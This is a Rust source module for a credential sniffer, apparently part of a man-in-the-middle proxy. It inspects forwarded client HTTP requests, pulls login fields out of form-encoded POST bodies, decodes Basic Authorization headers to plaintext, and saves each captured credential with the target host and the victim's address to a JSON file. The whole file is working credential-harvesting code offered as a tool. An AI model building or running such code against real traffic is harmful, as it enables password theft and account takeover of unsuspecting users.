//! Credential sniffer
//!
//! Watches forwarded client requests for form-encoded logins and HTTP
//! authentication headers. Captured records are deduplicated in memory and
//! appended to a JSON-array file; the append rewrites the closing bracket
//! in place so the write cost stays proportional to one record.

use std::collections::{BTreeMap, HashSet};
use std::fs::{self, OpenOptions};
use std::hash::{Hash, Hasher};
use std::io::{Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::sync::Mutex;

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use percent_encoding::percent_decode_str;
use serde::{Deserialize, Serialize};
use tracing::{info, warn};

use crate::http::HttpRequest;

const FORM_URLENCODED: &str = "application/x-www-form-urlencoded";

/// One captured credential. `host` is always present; `client` carries the
/// peer address for live output but is excluded from equality and hashing,
/// so the same credential seen from different source ports stores once.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(transparent)]
pub struct UserRecord {
    attrs: BTreeMap<String, String>,
}

impl UserRecord {
    fn new(mut attrs: BTreeMap<String, String>, host: &str, client: &str) -> Self {
        attrs.insert("host".to_string(), host.to_string());
        attrs.insert("client".to_string(), client.to_string());
        Self { attrs }
    }

    fn identity(&self) -> impl Iterator<Item = (&str, &str)> {
        self.attrs
            .iter()
            .filter(|(k, _)| k.as_str() != "client")
            .map(|(k, v)| (k.as_str(), v.as_str()))
    }

    #[cfg(test)]
    pub fn get(&self, key: &str) -> Option<&str> {
        self.attrs.get(key).map(String::as_str)
    }
}

impl PartialEq for UserRecord {
    fn eq(&self, other: &Self) -> bool {
        self.identity().eq(other.identity())
    }
}

impl Eq for UserRecord {}

impl Hash for UserRecord {
    fn hash<H: Hasher>(&self, state: &mut H) {
        for (key, value) in self.identity() {
            key.hash(state);
            value.hash(state);
        }
    }
}

pub struct PasswordCollector {
    path: PathBuf,
    users: Mutex<HashSet<UserRecord>>,
}

impl PasswordCollector {
    /// Opens the store, loading previously captured records. A missing
    /// file is created as an empty array; malformed JSON is logged and
    /// replaced by one.
    pub fn open(dirname: &Path, file: &str) -> std::io::Result<Self> {
        let collector = Self {
            path: dirname.join(file),
            users: Mutex::new(HashSet::new()),
        };
        fs::create_dir_all(dirname)?;
        collector.load()?;
        if collector.lock().is_empty() {
            collector.dump()?;
        }
        Ok(collector)
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, HashSet<UserRecord>> {
        self.users
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    fn load(&self) -> std::io::Result<()> {
        let raw = match fs::read_to_string(&self.path) {
            Ok(raw) => raw,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
            Err(e) => return Err(e),
        };
        match serde_json::from_str::<Vec<UserRecord>>(&raw) {
            Ok(stored) => {
                let mut users = self.lock();
                for record in stored {
                    users.insert(record);
                }
            }
            Err(e) => {
                warn!("failed to read {}: {e}; starting empty", self.path.display());
            }
        }
        Ok(())
    }

    /// Rewrites the whole store from the in-memory set.
    fn dump(&self) -> std::io::Result<()> {
        let users = self.lock();
        let records: Vec<&UserRecord> = users.iter().collect();
        fs::write(&self.path, serde_json::to_string(&records)?)
    }

    /// Inspects one forwarded request; captures and persists a record when
    /// it carries credentials.
    pub fn observe(&self, client: &str, request: &HttpRequest) {
        let Some(record) = extract_record(client, request) else {
            return;
        };
        let (fresh, need_comma) = {
            let mut users = self.lock();
            let fresh = users.insert(record.clone());
            (fresh, users.len() > 1)
        };
        if !fresh {
            return;
        }
        info!(
            "captured credentials for {} from {client}",
            record.attrs.get("host").map(String::as_str).unwrap_or("?")
        );
        if let Err(e) = self.append(&record, need_comma) {
            warn!("failed to append to {}: {e}", self.path.display());
        }
    }

    /// Splices one record over the array's closing bracket instead of
    /// re-serializing the whole set.
    fn append(&self, record: &UserRecord, need_comma: bool) -> std::io::Result<()> {
        let mut file = OpenOptions::new().read(true).write(true).open(&self.path)?;
        let mut pos = file.metadata()?.len();
        loop {
            if pos == 0 {
                return Err(std::io::Error::new(
                    std::io::ErrorKind::InvalidData,
                    format!("no JSON array found in {}", self.path.display()),
                ));
            }
            pos -= 1;
            file.seek(SeekFrom::Start(pos))?;
            let mut byte = [0u8; 1];
            file.read_exact(&mut byte)?;
            if byte[0] == b']' {
                break;
            }
        }
        let serialized = serde_json::to_string(record)?;
        let ending = if need_comma {
            format!(", {serialized}]\n")
        } else {
            format!("{serialized}]\n")
        };
        file.seek(SeekFrom::Start(pos))?;
        file.write_all(ending.as_bytes())?;
        file.set_len(pos + ending.len() as u64)?;
        Ok(())
    }

    #[cfg(test)]
    pub(crate) fn len(&self) -> usize {
        self.lock().len()
    }
}

fn extract_record(client: &str, request: &HttpRequest) -> Option<UserRecord> {
    let host = request.headers.get("host")?;
    if request.method == "POST"
        && request.headers.get("content-type") == Some(FORM_URLENCODED)
    {
        return Some(url_form(client, host, &request.content));
    }
    if let Some(value) = request.headers.get("authorization") {
        return auth_header(client, host, value);
    }
    None
}

/// Decodes an `application/x-www-form-urlencoded` body into a record.
fn url_form(client: &str, host: &str, content: &[u8]) -> UserRecord {
    let body = String::from_utf8_lossy(content);
    let mut attrs = BTreeMap::new();
    for pair in body.split('&') {
        let Some((key, value)) = pair.split_once('=') else {
            continue;
        };
        attrs.insert(
            percent_decode_str(key).decode_utf8_lossy().into_owned(),
            percent_decode_str(value).decode_utf8_lossy().into_owned(),
        );
    }
    UserRecord::new(attrs, host, client)
}

/// Interprets an `authorization` header. Basic credentials are decoded to
/// a single `credential` field; any other scheme is kept as its
/// comma-separated parameters.
fn auth_header(client: &str, host: &str, value: &str) -> Option<UserRecord> {
    let (scheme, parameters) = value.split_once(' ')?;
    let mut attrs = BTreeMap::new();
    attrs.insert("scheme".to_string(), scheme.to_string());
    if scheme == "Basic" {
        let decoded = BASE64.decode(parameters.trim()).ok()?;
        attrs.insert(
            "credential".to_string(),
            String::from_utf8_lossy(&decoded).into_owned(),
        );
    } else {
        for parameter in parameters.split(',') {
            let Some((key, v)) = parameter.split_once('=') else {
                continue;
            };
            attrs.insert(key.trim().to_string(), v.to_string());
        }
    }
    Some(UserRecord::new(attrs, host, client))
}
